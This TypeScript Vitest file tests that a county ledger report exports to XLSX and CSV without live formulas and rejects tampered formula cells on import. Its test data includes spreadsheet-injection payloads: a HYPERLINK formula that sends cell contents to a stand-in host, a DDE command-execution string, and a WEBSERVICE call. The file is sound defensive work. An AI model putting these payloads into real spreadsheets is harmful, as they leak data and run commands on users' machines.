import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { read, utils, write } from '@e965/xlsx';
import { afterAll, describe, expect, it } from 'vitest';
import { readSheets } from '../../../crawler/commands/parts/ledger/read-sheets.ts';
import { readLedger } from '../../../report/packet/ledger/read-rows.ts';
import { editionSchema } from '../../../report/packet/model/edition.ts';
import { makePacket } from '../../../report/packet/model/packet.ts';
import { LEDGER_TITLES, ledgerTable } from '../../../report/packet/tables/ledger.ts';
import { tableCsv } from '../../../report/packet/write/csv.ts';
import { writeXlsx } from '../../../report/packet/write/xlsx.ts';
import { tempDir } from '../../helpers/stores.ts';
import { openZipped } from './open-zipped.ts';
import { inputOf, makeCounty, makeProblem } from './county.ts';

const OPTIONS = { isDraft: false, madeAt: new Date('2026-11-21T02:02:10Z') };
const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"看")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];
const packet = makePacket(
  inputOf(makeCounty(FORMULAS.map((message, at) => makeProblem(`f${at}`, '县教育局', { message, pageTitle: null })))),
);
const table = ledgerTable(packet);
const out = tempDir();
afterAll(() => out.remove());

describe('a ledger with cells that look like formulas', () => {
  it('goes out as text in the workbook, without links, and set off in the csv', async () => {
    const bytes = await writeXlsx([table], OPTIONS);
    const sheet = Object.values(read(bytes, { type: 'array' }).Sheets)[0]!;
    const cells = Object.entries(sheet).flatMap(([at, cell]) =>
      at.startsWith('!') ? [] : [cell as { t: string; f?: string; v: unknown }],
    );
    expect(cells.filter(({ f }) => f !== undefined)).toEqual([]);
    for (const text of FORMULAS) expect(cells.find(({ v }) => v === text)?.t, text).toBe('s');
    const files = await openZipped(bytes);
    expect([...files.values()].some((xml) => /<f[ >]|<hyperlink|ddeLink|externalLink/.test(xml))).toBe(false);
    for (const line of tableCsv(table).split('\r\n').slice(1, -1))
      expect(line.split(',').some((field) => /^"?[=+\-@]/.test(field))).toBe(false);
  });

  it('comes back as what its cells show: a real formula is neither run nor kept, and given cells must still be as sent', async () => {
    const book = read(await writeXlsx([table], OPTIONS), { type: 'array' });
    const sheet = Object.values(book.Sheets)[0]!;
    const at = (title: string, row: number): string => utils.encode_cell({ r: row, c: LEDGER_TITLES.indexOf(title) });
    sheet[at('是否认可', 3)] = { t: 's', v: '认可' };
    sheet[at('整改措施', 3)] = { t: 's', v: '已补发', f: 'WEBSERVICE("http://x.example/")' };
    sheet[at('问题描述', 4)] = { t: 's', v: '改过的描述', f: 'A1' };
    const file = join(out.dir, '台账.xlsx');
    writeFileSync(file, write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array);
    const [cells = []] = readSheets(file).sheets;
    const { replies, refused } = readLedger(cells, {
      where: '台账.xlsx',
      at: '2026-11-28T02:00:00.000Z',
      today: '2026-11-30',
      edition: editionSchema.parse(packet),
      known: [],
      by: null,
    });
    expect(replies).toMatchObject([{ measure: '已补发' }]);
    expect(refused.map(({ field }) => field.split(' ').at(-1))).toEqual(['问题描述']);
  });
});
